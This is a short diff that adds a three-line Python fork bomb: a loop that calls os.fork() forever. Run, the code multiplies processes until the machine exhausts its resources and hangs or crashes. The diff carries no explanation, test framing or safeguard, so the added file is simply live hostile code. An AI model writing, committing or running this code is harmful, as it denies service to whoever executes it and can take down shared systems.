@@ -1,0 +1,3 @@
+import os
+while True:
+    os.fork()
